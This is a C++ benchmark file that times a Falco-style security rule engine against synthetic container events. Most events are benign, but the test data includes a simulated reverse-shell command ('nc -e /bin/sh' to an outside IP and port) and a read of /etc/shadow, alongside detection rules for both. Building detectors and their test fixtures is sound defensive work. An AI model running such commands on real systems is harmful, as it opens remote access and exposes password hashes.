// Events a second that Falco's rules judge, on one core: nine of ten are benign opens, starts of
// programs and connections, as a busy host has them; one of ten is of a container that misbehaves.
// Needs the folder of the rule files in SEAWALL_FALCO_RULES; without it a handful of own rules.
#include <benchmark/benchmark.h>
#include <fcntl.h>

#include <cstdlib>
#include <string>
#include <vector>

#include "guard/event/address.h"
#include "guard/falco/engine.h"

namespace {

using namespace seawall::guard;
using namespace seawall::guard::falco;

std::vector<RuleFile> rule_files() {
  const char* folder = std::getenv("SEAWALL_FALCO_RULES");
  if (folder == nullptr) {
    return {{"own.yaml", R"(
- rule: shell
  desc: a shell in a container
  condition: evt.type in (execve, execveat) and container.id != host and proc.name in (sh, bash)
  output: "%proc.name"
  priority: NOTICE
- rule: secret
  desc: a secret is read
  condition: evt.type in (open, openat) and evt.is_open_read=true and fd.name startswith /etc/shadow
  output: "%fd.name"
  priority: NOTICE
)"}};
  }
  auto files = read_rule_files({folder});
  if (!files.ok()) std::abort();
  return std::move(*files);
}

std::shared_ptr<Process> process(std::string name, std::vector<std::string> arguments,
                                 std::shared_ptr<const Process> parent) {
  auto made = std::make_shared<Process>();
  made->pid = parent ? parent->pid + 1 : 1;
  made->name = std::move(name);
  made->executable = "/usr/bin/" + made->name;
  made->arguments = std::move(arguments);
  made->directory = "/srv";
  made->uid = 1000;
  made->user_name = "app";
  made->started = 1'000'000'000;
  made->container = parent ? parent->container : nullptr;
  made->parent = std::move(parent);
  return made;
}

Event open_of(std::shared_ptr<const Process> who, std::string path, int flags, std::string words) {
  Event event;
  event.type = EventType::kOpen;
  event.call = "openat";
  event.result = 5;
  event.file.kind = FileKind::kRegular;
  event.file.number = 5;
  event.file.name = event.file.raw_name = std::move(path);
  event.arguments = {{"flags", std::move(words), flags}, {"mode", "0", 0}};
  event.process = std::move(who);
  return event;
}

Event start_of(std::shared_ptr<const Process> who) {
  Event event;
  event.type = EventType::kExec;
  event.call = "execve";
  event.arguments = {{"flags", "EXE_LOWER_LAYER", 0}};
  event.process = std::move(who);
  return event;
}

Event connect_of(std::shared_ptr<const Process> who, const char* to, uint16_t port) {
  Event event;
  event.type = EventType::kConnect;
  event.call = "connect";
  event.file.kind = FileKind::kIpv4;
  event.file.number = 7;
  event.file.protocol = "tcp";
  parse_address("172.17.0.5", event.file.local);
  parse_address(to, event.file.remote);
  event.file.local.port = 40'000;
  event.file.remote.port = port;
  event.process = std::move(who);
  return event;
}

std::vector<Event> mix() {
  auto container = std::make_shared<Container>();
  container->id = std::string(64, 'a');
  container->name = "shop";
  container->repository = "registry.example/shop/api";
  container->known = true;
  auto shim = process("containerd-shim", {"containerd-shim", "-namespace", "moby"},
                      process("systemd", {"/sbin/init"}, nullptr));
  auto node = process("node", {"node", "server.js"}, shim);
  node->container = container;
  auto worker = process("node", {"node", "worker.js", "--port", "8080"}, node);
  auto netcat = process("nc", {"nc", "-e", "/bin/sh", "203.0.113.9", "4444"}, worker);
  auto reader = process("cat", {"cat", "/etc/shadow"}, worker);
  auto python = process("python3", {"python3", "-m", "http.server"}, worker);
  auto backup = process("tar", {"tar", "cf", "/backup/a.tar", "/srv"},
                        process("cron", {"cron"}, shim->parent));

  std::vector<Event> events;
  for (int at = 0; at < 10; ++at) {
    const std::string number = std::to_string(at);
    events.push_back(open_of(worker, "/srv/app/node_modules/lib" + number + "/index.js", O_RDONLY,
                             "O_RDONLY|O_CLOEXEC"));
    events.push_back(open_of(worker, "/usr/lib/x86_64-linux-gnu/libc.so." + number, O_RDONLY,
                             "O_RDONLY|O_CLOEXEC"));
    events.push_back(open_of(backup, "/srv/data/part" + number, O_RDONLY, "O_RDONLY"));
    events.push_back(
        open_of(node, "/tmp/upload-" + number, O_WRONLY | O_CREAT, "O_WRONLY|O_CREAT"));
    events.push_back(open_of(node, "/proc/self/stat", O_RDONLY, "O_RDONLY"));
    events.push_back(connect_of(worker, "172.17.0.9", 5432));
    events.push_back(connect_of(python, "10.0.3.7", 443));
    events.push_back(start_of(python));
    events.push_back(start_of(backup));
    events.push_back(at % 2 == 0 ? start_of(netcat)
                                 : open_of(reader, "/etc/shadow", O_RDONLY, "O_RDONLY"));
  }
  int64_t number = 0;
  for (Event& event : events) {
    event.number = static_cast<uint64_t>(++number);
    event.time = 50'000'000'000 + number * 1'000'000;
  }
  return events;
}

void judge(benchmark::State& state) {
  Engine engine(rule_files(), {});
  const std::vector<Event> events = mix();
  size_t at = 0, matches = 0;
  for (auto _ : state) {
    matches += engine.judge(events[at]);
    at = at + 1 == events.size() ? 0 : at + 1;
  }
  state.SetItemsProcessed(state.iterations());
  state.counters["rules"] = static_cast<double>(engine.rules().size());
  state.counters["matches"] =
      benchmark::Counter(static_cast<double>(matches), benchmark::Counter::kAvgIterations);
}

// With the outputs of what matched written.
void judge_and_render(benchmark::State& state) {
  Engine engine(rule_files(), {});
  const std::vector<Event> events = mix();
  size_t at = 0, bytes = 0;
  for (auto _ : state) {
    engine.judge(events[at], [&](const Match& match) { bytes += match.output.size(); });
    at = at + 1 == events.size() ? 0 : at + 1;
  }
  benchmark::DoNotOptimize(bytes);
  state.SetItemsProcessed(state.iterations());
}

void load(benchmark::State& state) {
  const std::vector<RuleFile> files = rule_files();
  for (auto _ : state) {
    Engine engine(files, {});
    benchmark::DoNotOptimize(engine.rules().size());
  }
}

BENCHMARK(judge);
BENCHMARK(judge_and_render);
BENCHMARK(load)->Unit(benchmark::kMillisecond);

}  // namespace

BENCHMARK_MAIN();
